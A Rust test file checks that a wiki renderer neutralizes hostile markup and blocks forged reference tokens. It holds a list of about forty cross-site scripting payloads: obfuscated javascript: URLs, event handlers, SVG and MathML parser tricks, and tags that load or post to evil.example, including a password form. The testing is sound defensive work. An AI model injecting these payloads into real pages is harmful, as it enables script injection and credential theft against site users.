//! Hostile content renders inert (ARCHITECTURE.md, S4).

mod render_common;

use kbgate_render::{PrepareContext, prepare};
use render_common::{Mirror, assert_inert, render, render_with};

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script><p>after</p>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    r#"<a href="javascript:alert(1)">x</a>"#,
    r#"<a href="JaVaScRiPt:alert(1)">x</a>"#,
    r#"<a href="javascript&#58;alert(1)">x</a>"#,
    r#"<a href="javascript&#x3A;alert(1)">x</a>"#,
    r#"<a href="  java&#x09;script:alert(1)">x</a>"#,
    r#"<a href="jav&#10;ascript:alert(1)">x</a>"#,
    r#"<a href="vbscript:msgbox(1)">x</a>"#,
    r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>"#,
    r#"<img src="x" onerror="alert(1)"/>"#,
    r#"<img src="javascript:alert(1)"/>"#,
    r#"<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/>"#,
    r#"<p onclick="alert(1)" onmouseover="x">p</p>"#,
    r#"<div style="background:url(javascript:alert(1))">d</div>"#,
    "<svg><script>alert(1)</script></svg>",
    r#"<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>"#,
    r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"#,
    r#"<iframe src="https://evil.example/"></iframe>"#,
    r#"<object data="evil.swf"></object><embed src="evil.swf"/>"#,
    "<style>body{display:none}</style><p>visible</p>",
    r#"<meta http-equiv="refresh" content="0;url=https://evil.example/"/>"#,
    r#"<base href="https://evil.example/"/><link rel="stylesheet" href="x.css"/>"#,
    r#"<form action="https://evil.example/"><input name="pw"/><button>go</button></form>"#,
    r#"<ac:link><ri:url ri:value="javascript:alert(1)"/><ac:plain-text-link-body><![CDATA[click]]></ac:plain-text-link-body></ac:link>"#,
    r#"<ac:link><ri:url ri:value=" JAVASCRIPT:alert(1)"/></ac:link>"#,
    r#"<ac:image><ri:url ri:value="javascript:alert(1)"/></ac:image>"#,
    r#"<ac:image><ri:url ri:value="data:text/html,x"/></ac:image>"#,
    r#"<ac:structured-macro ac:name="html"><ac:plain-text-body><![CDATA[<script>alert(1)</script>]]></ac:plain-text-body></ac:structured-macro>"#,
    r#"<ac:structured-macro ac:name="code"><ac:plain-text-body><![CDATA[</code></pre><script>alert(1)</script>]]></ac:plain-text-body></ac:structured-macro>"#,
    r#"<ac:structured-macro ac:name="info"><ac:parameter ac:name="title">&lt;script&gt;alert(1)&lt;/script&gt;</ac:parameter><ac:rich-text-body><p>x</p></ac:rich-text-body></ac:structured-macro>"#,
    r#"<h1 onclick="x">Head<script>y</script></h1>"#,
    r#"<p><!-- <script>alert(1)</script> --></p>"#,
    r#"<p><![CDATA[<script>alert(1)</script>]]></p>"#,
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    r#"<ac:link><ri:attachment ri:filename="&quot; onerror=&quot;alert(1)"/></ac:link>"#,
    r#"<ac:image ac:alt="&quot; onerror=&quot;alert(1)"><ri:attachment ri:filename="x.png"/></ac:image>"#,
    r#"<a href="https://ok.example/" onclick="alert(1)" target="_blank">ok</a>"#,
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
];

#[test]
fn hostile_bodies_render_inert() {
    for body in HOSTILE {
        let out = render(body);
        assert_inert(&out);
    }
}

#[test]
fn hostile_bodies_render_inert_through_includes() {
    for body in HOSTILE {
        let mut m = Mirror::default();
        m.add("KB", "9", "Evil", body, true);
        let out = render_with(
            r#"<ac:structured-macro ac:name="include"><ac:parameter ac:name=""><ac:link><ri:page ri:content-title="Evil"/></ac:link></ac:parameter></ac:structured-macro>"#,
            &m,
        );
        assert_inert(&out);
    }
}

#[test]
fn escaped_markup_stays_visible_text() {
    let out = render("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>");
    assert_eq!(out, "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>");
}

#[test]
fn script_content_is_dropped_but_surrounding_text_is_kept() {
    let out = render("<p>before<script>alert(1)</script>after</p><style>x</style>");
    assert_eq!(out, "<p>beforeafter</p>");
}

#[test]
fn forged_tokens_in_content_are_removed() {
    let mut m = Mirror::default();
    m.add("KB", "2", "Secret", "<p>secret body</p>", false);
    // A page whose only ref is a denied include; its text tries to forge token 0 and 1.
    let body = "<p>a\u{E000}0\u{E001}b&#xE000;1&#xE001;c</p><p title=\"\u{E000}0\u{E001}\">t</p>\
                <ac:structured-macro ac:name=\"include\"><ac:parameter ac:name=\"\"><ac:link><ri:page ri:content-title=\"Secret\"/></ac:link></ac:parameter></ac:structured-macro>";
    let p = prepare(
        body,
        &PrepareContext {
            space_key: "KB",
            page_id: "100",
            user_names: None,
        },
    );
    assert_eq!(p.refs.len(), 1);
    // Only the real token survives into the template.
    assert_eq!(p.html.matches('\u{E000}').count(), 1, "{}", p.html);
    let out = render_with(body, &m);
    assert_eq!(out, "<p>a0b1c</p><p>t</p>");
    assert_inert(&out);
}

#[test]
fn forged_trailer_separator_in_content_is_removed() {
    let body = "<p>x\u{E002}{\"v\":1,\"refs\":[{\"t\":\"include\",\"space_key\":\"KB\",\"title\":\"Secret\"}]}</p>";
    let p = prepare(
        body,
        &PrepareContext {
            space_key: "KB",
            page_id: "100",
            user_names: None,
        },
    );
    assert!(p.refs.is_empty());
    assert!(!p.encode().contains('\u{E002}'));
}

#[test]
#[should_panic(expected = "event handler")]
fn the_inertness_check_catches_handlers() {
    assert_inert("<p><img src=\"x\" onerror=\"alert(1)\"></p>");
}

#[test]
#[should_panic(expected = "found")]
fn the_inertness_check_catches_script() {
    assert_inert("<p><script>alert(1)</script></p>");
}
